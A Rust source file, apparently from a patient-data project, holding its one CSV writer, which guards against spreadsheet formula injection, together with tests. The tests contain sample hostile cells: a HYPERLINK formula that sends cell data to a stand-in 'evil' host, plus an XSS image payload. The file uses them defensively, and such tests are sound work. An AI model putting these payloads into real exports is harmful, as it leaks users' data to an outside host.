//! Making text safe for CSV downloads: the project's one CSV writer.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
//! treat a leading tab or carriage return the same way), so a practice name from an
//! uploaded file, or a patient id, could run code on the machine of whoever opens the
//! download. Every CSV the pages and the command line write is written by
//! [`CsvWriter`] (or, a cell at a time, [`csv_cell`]), which neutralises such cells as
//! OWASP recommends: a leading `'`. Numbers stay numbers, and the file still reads back
//! through the project's own readers. The test `no_other_csv_writer` fails if another
//! writer appears.

use std::borrow::Cow;
use std::io::Write;

/// One CSV cell: formula-like text gets a leading `'` so spreadsheets show it as text
/// (plain numbers such as `-3.5` are left alone), and the cell is quoted when it holds
/// a comma, a quote or a line break, with quotes doubled.
pub fn csv_cell(text: &str) -> String {
    let neutral = neutralise(text);
    if neutral.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral.into_owned()
    }
}

/// The text with a leading `'` when a spreadsheet could take it for a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if starts_like_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// [`neutralise`] for a field as bytes (a field that is not UTF-8 is not a formula to
/// a spreadsheet that reads the file as UTF-8, but its first byte is checked all the
/// same).
pub fn neutralise_bytes(field: &[u8]) -> Cow<'_, [u8]> {
    let risky = match std::str::from_utf8(field) {
        Ok(text) => starts_like_formula(text),
        Err(_) => matches!(
            field.first(),
            Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
        ),
    };
    if risky {
        let mut out = Vec::with_capacity(field.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(field);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(field)
    }
}

/// The one CSV writer: every cell neutralised ([`neutralise`]) and quoted where needed.
/// Rows may differ in length.
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// Lines ended with `\n`, as the command line has always written them.
    pub fn new(out: W) -> CsvWriter<W> {
        Self::build(out, csv::Terminator::Any(b'\n'))
    }

    /// Lines ended with `\r\n` (RFC 4180), as the pages' downloads are.
    pub fn crlf(out: W) -> CsvWriter<W> {
        Self::build(out, csv::Terminator::CRLF)
    }

    fn build(out: W, terminator: csv::Terminator) -> CsvWriter<W> {
        CsvWriter {
            inner: csv::WriterBuilder::new()
                .flexible(true)
                .terminator(terminator)
                .from_writer(out),
        }
    }

    /// Writes one row, each cell made safe.
    pub fn row<I, T>(&mut self, cells: I) -> std::io::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<[u8]>,
    {
        let mut record = csv::ByteRecord::new();
        for cell in cells {
            record.push_field(&neutralise_bytes(cell.as_ref()));
        }
        self.inner.write_byte_record(&record).map_err(into_io)
    }

    /// Flushes and hands back what it wrote to.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner
            .into_inner()
            .map_err(|e| std::io::Error::other(e.to_string()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

impl CsvWriter<Vec<u8>> {
    /// The rows as CSV text, lines ended with `\r\n` (a download).
    pub fn text<I, R, T>(rows: I) -> String
    where
        I: IntoIterator<Item = R>,
        R: IntoIterator<Item = T>,
        T: AsRef<[u8]>,
    {
        let mut writer = CsvWriter::crlf(Vec::new());
        for row in rows {
            // Writing to a Vec cannot fail.
            let _ = writer.row(row);
        }
        let bytes = writer.into_inner().unwrap_or_default();
        String::from_utf8_lossy(&bytes).into_owned()
    }
}

fn into_io(e: csv::Error) -> std::io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => std::io::Error::other(format!("{other:?}")),
    }
}

/// True when a spreadsheet could take the text for a formula.
fn starts_like_formula(text: &str) -> bool {
    let Some(first) = text.chars().next() else {
        return false;
    };
    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
        return false;
    }
    !is_plain_number(text)
}

/// `-3.5`, `+12`, `-1e-3`: a number and nothing else (and so no formula).
fn is_plain_number(text: &str) -> bool {
    let body = text.strip_prefix(['-', '+']).unwrap_or(text);
    body.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && body
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '-' | '+'))
        && body.parse::<f64>().is_ok_and(f64::is_finite)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        assert_eq!(csv_cell("=1+1"), "'=1+1");
        assert_eq!(csv_cell("+44 116"), "'+44 116");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("-2+3"), "'-2+3");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("\rx"), "\"'\rx\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://x\",\"y\")"),
            "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""
        );
        assert_eq!(csv_cell("-"), "'-");
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        assert_eq!(csv_cell("-3.5"), "-3.5");
        assert_eq!(csv_cell("+12"), "+12");
        assert_eq!(csv_cell("-1e-3"), "-1e-3");
        assert_eq!(csv_cell("Groby Road"), "Groby Road");
        assert_eq!(csv_cell(""), "");
        assert_eq!(
            csv_cell("<img src=x onerror=alert(1)>"),
            "<img src=x onerror=alert(1)>"
        );
    }

    #[test]
    fn the_writer_neutralises_every_cell_and_reads_back() {
        let text = CsvWriter::text([
            vec!["patient_id", "note"],
            vec!["=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "-3.5"],
            vec!["@SUM(A1)", "a, b"],
            vec!["+44 116", "\tx"],
        ]);
        assert_eq!(
            text,
            "patient_id,note\r\n\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",-3.5\r\n'@SUM(A1),\"a, b\"\r\n'+44 116,'\tx\r\n"
        );
        // Each cell reads back as written, with its apostrophe.
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let first = reader.records().next().unwrap().unwrap();
        assert_eq!(&first[0], "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")");
        assert_eq!(&first[1], "-3.5");
        // The same rule cell by cell and row by row (a row of one empty cell is written
        // `""`, so that it is not read as no row at all).
        for cell in ["=1", "-2+3", "@x", "\rx", "plain", "-7"] {
            let row = CsvWriter::text([[cell]]);
            assert_eq!(row.trim_end_matches("\r\n"), csv_cell(cell), "{cell:?}");
        }
    }

    #[test]
    fn no_other_csv_writer() {
        // Every CSV the project writes goes through CsvWriter or csv_cell: no other
        // writer may appear in the source. The synthetic patient generator writes
        // digits and codes it made itself, at benchmark speed, and is the one exception.
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
        let mut offenders = Vec::new();
        let mut stack = vec![root.join("src"), root.join("crates")];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).unwrap().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    if !path.ends_with("target") {
                        stack.push(path);
                    }
                    continue;
                }
                if path.extension().is_none_or(|e| e != "rs")
                    || path.ends_with("atlas-core/src/export.rs")
                    || path.ends_with("risk/synthetic.rs")
                {
                    continue;
                }
                let text = std::fs::read_to_string(&path).unwrap();
                let code = text.split("#[cfg(test)]").next().unwrap_or("");
                if [
                    "csv::Writer",
                    "WriterBuilder",
                    "write_record(",
                    "write_byte_record(",
                ]
                .iter()
                .any(|w| code.contains(w))
                {
                    offenders.push(path.display().to_string());
                }
            }
        }
        assert!(offenders.is_empty(), "other CSV writers: {offenders:?}");
    }

    #[test]
    fn cells_are_quoted_when_needed() {
        assert_eq!(
            csv_cell("Leicester, Leicestershire"),
            "\"Leicester, Leicestershire\""
        );
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_cell("-inf"), "'-inf");
    }
}
